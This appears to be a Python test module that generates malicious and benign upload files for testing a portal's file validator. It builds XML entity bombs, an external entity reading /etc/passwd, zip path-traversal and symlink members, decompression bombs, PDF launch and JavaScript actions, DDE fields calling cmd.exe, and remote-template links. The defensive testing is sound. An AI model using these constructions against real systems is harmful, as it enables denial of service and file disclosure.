"""Builds the corpus of hostile and of honest files, at test time, from nothing.

``python -m tests.portal.common.hostile FOLDER`` writes all of them into a folder to look at.
"""

import io
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache, cached_property, partial
from pathlib import Path

import pikepdf
from docx import Document
from openpyxl import Workbook
from PIL import Image

CONTENT_TYPES = "[Content_Types].xml"
DOCUMENT = "word/document.xml"
SETTINGS_RELS = "word/_rels/settings.xml.rels"
DOCUMENT_RELS = "word/_rels/document.xml.rels"
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE_RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
GPS_CANARY = b"CANARY-GPS-29.5630N"


@dataclass(frozen=True)
class Hostile:
    """A file to refuse: the name it comes under, its bytes, and the expected reason.

    Bytes that take long to make come as a function: only the test that wants them waits.
    """

    name: str
    made: bytes | Callable[[], bytes]
    code: str

    @cached_property
    def content(self) -> bytes:
        return self.made if isinstance(self.made, bytes) else self.made()


# --- honest files -----------------------------------------------------------------------------
def jpeg(width: int = 60, height: int = 40, **options: object) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (width, height), (200, 30, 30)).save(buffer, "JPEG", **options)
    return buffer.getvalue()


def jpeg_with_gps() -> bytes:
    """Return a photo lying on its side (orientation 6) that tells where it was taken."""
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x010E] = GPS_CANARY.decode()
    exif.get_ifd(0x8825)[2] = (29.0, 33.0, 46.8)
    return jpeg(exif=exif.tobytes())


def png(width: int = 60, height: int = 40, mode: str = "RGBA") -> bytes:
    buffer = io.BytesIO()
    Image.new(mode, (width, height)).save(buffer, "PNG")
    return buffer.getvalue()


def _pdf(
    change: Callable[[pikepdf.Pdf], None] | None = None, pages: int = 1, **save: object
) -> bytes:
    buffer = io.BytesIO()
    with pikepdf.new() as pdf:
        for _ in range(pages):
            pdf.add_blank_page(page_size=(595, 842))
        if change is not None:
            change(pdf)
        pdf.save(buffer, **save)
    return buffer.getvalue()


def blank_pdf(pages: int = 1) -> bytes:
    """Return a PDF without any text, as a scanner without OCR makes it."""
    return _pdf(pages=pages)


def text_pdf(text: str = "Hello world this is a plain page of text") -> bytes:
    def write(pdf: pikepdf.Pdf) -> None:
        page = pdf.pages[0]
        page.Resources = pikepdf.Dictionary(
            Font=pikepdf.Dictionary(
                F1=pikepdf.Dictionary(
                    Type=pikepdf.Name.Font,
                    Subtype=pikepdf.Name.Type1,
                    BaseFont=pikepdf.Name.Helvetica,
                )
            )
        )
        page.Contents = pdf.make_stream(f"BT /F1 12 Tf 50 700 Td ({text}) Tj ET".encode())

    return _pdf(write)


def docx(*paragraphs: str) -> bytes:
    document = Document()
    for paragraph in paragraphs or ("事迹材料正文。",):
        document.add_paragraph(paragraph)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def xlsx(rows: list[list[object]] | None = None) -> bytes:
    workbook = Workbook()
    for row in rows or [["姓名"], ["张三"]]:
        workbook.active.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


# --- packages taken apart and put together ----------------------------------------------------
def repack(
    package: bytes,
    *,
    replace: dict[str, tuple[str, str]] | None = None,
    add: dict[str, bytes] | None = None,
) -> bytes:
    """Return a package with text replaced in some parts and other parts added."""
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(package)) as source,
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for name in source.namelist():
            data = source.read(name)
            if replace and name in replace:
                old, new = replace[name]
                assert old.encode() in data, (name, old)
                data = data.replace(old.encode(), new.encode(), 1)
            if not (add and name in add):
                target.writestr(name, data)
        for name, data in (add or {}).items():
            target.writestr(name, data)
    return buffer.getvalue()


def _relations(kind: str, target: str, *, external: bool = True) -> bytes:
    mode = ' TargetMode="External"' if external else ""
    return (
        f'<?xml version="1.0"?><Relationships xmlns="{PACKAGE_RELATIONS}">'
        f'<Relationship Id="rId1" Type="{RELATIONS}/{kind}" Target="{target}"{mode}/>'
        "</Relationships>"
    ).encode()


def _declared(package: bytes, old: str, new: str) -> bytes:
    return repack(package, replace={CONTENT_TYPES: (old, new)})


def _docm() -> bytes:
    changed = _declared(
        docx(),
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    return repack(changed, add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"VBA" * 50})


def _hidden_macro() -> bytes:
    return repack(docx(), add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"VBA" * 50})


def _in_body(xml: str) -> bytes:
    return repack(docx(), replace={DOCUMENT: ("<w:sectPr", xml + "<w:sectPr")})


def _entities() -> bytes:
    bomb = (
        '<!DOCTYPE x [<!ENTITY a "' + "A" * 1000 + '">'
        + "".join(f'<!ENTITY a{n} "&a{n - 1 or ""};&a{n - 1 or ""};">' for n in range(1, 20))
        + "]>"
    )  # fmt: skip
    return repack(docx(), add={"customXml/item1.xml": f"{bomb}<x>&a19;</x>".encode()})


def _outside_entity_utf16() -> bytes:
    text = (
        '<?xml version="1.0" encoding="UTF-16"?>'
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
    )
    return repack(docx(), add={"customXml/item1.xml": text.encode("utf-16")})


def _zip_with(name: str, data: bytes, external_attr: int = 0) -> bytes:
    buffer = io.BytesIO(docx())
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive:
        member = zipfile.ZipInfo(name)
        member.compress_type = zipfile.ZIP_DEFLATED
        member.external_attr = external_attr
        archive.writestr(member, data)
    return buffer.getvalue()


def _zero_member() -> bytes:
    return _zip_with("word/media/zero.bin", b"\x00" * 60_000_000)


def _many_members() -> bytes:
    return repack(docx(), add={f"customXml/n{number}.txt": b"" for number in range(2_100)})


def _lying_sizes() -> bytes:
    """Return a package whose directory claims a member of 10 bytes that unpacks to 50 MB."""
    package = bytearray(_zip_with("word/media/image1.bin", b"\x00" * 50_000_000))
    entry = package.rfind(b"PK\x01\x02")
    package[entry + 24 : entry + 28] = struct.pack("<I", 10)
    return bytes(package)


# --- pictures ---------------------------------------------------------------------------------
def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def huge_png(side: int = 30_000) -> bytes:
    """Return a PNG of a few kilobytes that declares 900 million pixels."""
    header = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + _chunk(b"IDAT", zlib.compress(b"\x00" * 100_000))
        + _chunk(b"IEND", b"")
    )


def _small_zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("run.txt", "payload")
    return buffer.getvalue()


# --- documents --------------------------------------------------------------------------------
def _action(**entries: object) -> Callable[[pikepdf.Pdf], None]:
    def set_open_action(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = pikepdf.Dictionary(**entries)

    return set_open_action


def _annotation(**entries: object) -> Callable[[pikepdf.Pdf], None]:
    def add(pdf: pikepdf.Pdf) -> None:
        box = pikepdf.Array([0, 0, 10, 10])
        note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Rect=box, **entries)
        pdf.pages[0].Annots = pikepdf.Array([note])

    return add


def _attach(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["a.txt"] = b"hidden"


def _xfa(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([]), XFA=pdf.make_stream(b"<xdp/>"))


def _page_action(pdf: pikepdf.Pdf) -> None:
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    pdf.pages[0].AA = pikepdf.Dictionary(O=script)


def _packed_zeros(megabytes: int) -> bytes:
    """Return a zlib stream of so many zeros; one megabyte is packed, and repeated as it is."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    megabyte = packer.compress(b"\x00" * 1_000_000) + packer.flush(zlib.Z_FULL_FLUSH)
    # Adler-32 of zeros: the low half stays 1, the high half counts them.
    check = struct.pack(">HH", megabytes * 1_000_000 % 65_521, 1)
    return b"\x78\xda" + megabyte * megabytes + b"\x03\x00" + check


def _stream_bomb(pdf: pikepdf.Pdf) -> None:
    stream = pikepdf.Stream(pdf, _packed_zeros(300))
    stream.Filter = pikepdf.Name.FlateDecode
    pdf.pages[0].Contents = pdf.make_indirect(stream)


def _tall_page(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].MediaBox = pikepdf.Array([0, 0, 595, 2_000_000])


_LOCKED = pikepdf.Encryption(owner="owner", user="user", R=6)
_RESTRICTED = pikepdf.Encryption(owner="owner", user="", R=6)
_SCRIPT = {"S": pikepdf.Name.JavaScript, "JS": pikepdf.String("app.alert(1)")}
_LAUNCH = {"S": pikepdf.Name.Launch, "F": pikepdf.String("cmd.exe")}
_SUBMIT = {"S": pikepdf.Name.SubmitForm, "F": pikepdf.String("http://127.0.0.1/")}
_HEAD_HTML = b"%PDF-1.7\n<html><script>alert(1)</script></html>\n"


def _pictures() -> list[Hostile]:
    script = b"<script>alert(1)</script>"
    return [
        Hostile("photo.jpg", b"<html>" + script + b"</html>", "wrong_signature"),
        Hostile("photo.jpg", png(), "wrong_signature"),
        Hostile("photo.png", jpeg(), "wrong_signature"),
        Hostile("photo.jpg", b"GIF89a" + b"\x00" * 40, "wrong_signature"),
        Hostile("photo.jpg", jpeg() + _small_zip(), "polyglot"),
        Hostile("photo.jpg", jpeg() + script, "polyglot"),
        Hostile("photo.png", png() + blank_pdf(), "polyglot"),
        Hostile("photo.png", png() + docx(), "polyglot"),
        Hostile("photo.png", huge_png(), "too_many_pixels"),
        Hostile("photo.png", png(300, 300)[:-40], "broken_image"),
        Hostile("photo.jpg", jpeg(400, 400, quality=95)[:1500], "broken_image"),
        Hostile("photo.jpg", b"\xff\xd8\xff" + b"\x00" * 2000, "broken_image"),
    ]


def _documents() -> list[Hostile]:
    plain = blank_pdf()
    return [
        Hostile("paper.pdf", _small_zip(), "wrong_signature"),
        Hostile("paper.pdf", b"junk\n" + plain, "wrong_signature"),
        Hostile("paper.pdf", plain + _small_zip(), "polyglot"),
        Hostile("paper.pdf", plain + b"<script>alert(1)</script>", "polyglot"),
        Hostile("paper.pdf", _HEAD_HTML + plain[9:], "polyglot"),
        Hostile("paper.pdf", _pdf(encryption=_LOCKED), "encrypted"),
        Hostile("paper.pdf", _pdf(encryption=_RESTRICTED), "encrypted"),
        Hostile("paper.pdf", _pdf(_action(**_SCRIPT)), "active_pdf"),
        Hostile("paper.pdf", _pdf(_action(**_LAUNCH)), "active_pdf"),
        Hostile(
            "paper.pdf",
            _pdf(_annotation(Subtype=pikepdf.Name.Link, A=pikepdf.Dictionary(**_SUBMIT))),
            "active_pdf",
        ),
        Hostile("paper.pdf", _pdf(_annotation(Subtype=pikepdf.Name.RichMedia)), "active_pdf"),
        Hostile("paper.pdf", _pdf(_attach), "active_pdf"),
        Hostile("paper.pdf", _pdf(_xfa), "active_pdf"),
        Hostile("paper.pdf", _pdf(_page_action), "active_pdf"),
        Hostile(
            "paper.pdf",
            _pdf(_page_action, object_stream_mode=pikepdf.ObjectStreamMode.generate),
            "active_pdf",
        ),
        Hostile("paper.pdf", partial(_pdf, _stream_bomb, compress_streams=False), "bomb"),
        Hostile("paper.pdf", _pdf(_tall_page), "huge_page"),
        Hostile("paper.pdf", blank_pdf(pages=61), "too_many_pages"),
        Hostile("paper.pdf", plain[: len(plain) // 2], "truncated"),
        Hostile("paper.pdf", b"%PDF-1.7\n" + b"\x00" * 500 + b"\n%%EOF\n", "broken_pdf"),
    ]


def _offices() -> list[Hostile]:
    template = _relations("attachedTemplate", "https://example.org/evil.dotm")
    chunk = _relations("aFChunk", "evil.html", external=False)
    picture = _relations("image", "https://example.org/track.png")
    share = _relations("hyperlink", "file://10.0.0.1/share/x.exe")
    dde = (
        "<w:p><w:r><w:instrText>DDE</w:instrText></w:r>"
        "<w:r><w:instrText>AUTO cmd</w:instrText></w:r></w:p>"
    )
    dde_simple = '<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\cmd.exe"/></w:p>'
    return [
        Hostile("story.docx", xlsx(), "wrong_signature"),
        Hostile("list.xlsx", docx(), "wrong_signature"),
        Hostile("story.docx", _docm(), "active_office"),
        Hostile("story.docx", _hidden_macro(), "active_office"),
        Hostile("story.docx", repack(docx(), add={SETTINGS_RELS: template}), "active_office"),
        Hostile("story.docx", repack(docx(), add={DOCUMENT_RELS: chunk}), "active_office"),
        Hostile("story.docx", repack(docx(), add={DOCUMENT_RELS: picture}), "active_office"),
        Hostile("story.docx", repack(docx(), add={DOCUMENT_RELS: share}), "active_office"),
        Hostile(
            "story.docx",
            _in_body(f'<w:altChunk xmlns:q="{RELATIONS}" q:id="rId9"/>'),
            "active_office",
        ),
        Hostile("story.docx", _in_body(dde), "active_office"),
        Hostile("story.docx", _in_body(dde_simple), "active_office"),
        Hostile(
            "story.docx",
            repack(docx(), add={"word/embeddings/oleObject1.bin": b"x"}),
            "active_office",
        ),
    ]


def _packages() -> list[Hostile]:
    return [
        Hostile("story.docx", _entities(), "dtd"),
        Hostile("story.docx", _outside_entity_utf16(), "dtd"),
        Hostile("story.docx", _zero_member, "bomb"),
        Hostile("story.docx", _many_members, "bomb"),
        Hostile("story.docx", _zip_with("../../etc/cron.d/x", b"x"), "bad_member"),
        Hostile("story.docx", _zip_with("/etc/passwd", b"x"), "bad_member"),
        Hostile("story.docx", _zip_with("word/link", b"/etc/passwd", 0o120777 << 16), "bad_member"),
        Hostile("story.docx", _lying_sizes, "broken_office"),
        Hostile("story.docx", docx()[:-30], "truncated"),
        Hostile("story.docx", docx() + b"tail", "truncated"),
        Hostile("story.docx", b"PK\x03\x04" + b"\x00" * 400, "truncated"),
        Hostile(
            "list.xlsx",
            repack(xlsx(), add={"xl/connections.xml": _relations("x", "y")}),
            "active_office",
        ),
    ]


@cache
def corpus() -> list[Hostile]:
    """Return every hostile file, made once."""
    return [*_pictures(), *_documents(), *_offices(), *_packages()]


if __name__ == "__main__":
    folder = Path(sys.argv[1])
    folder.mkdir(parents=True, exist_ok=True)
    for number, item in enumerate(corpus(), start=1):
        (folder / f"{number:02}-{item.code}-{item.name}").write_bytes(item.content)
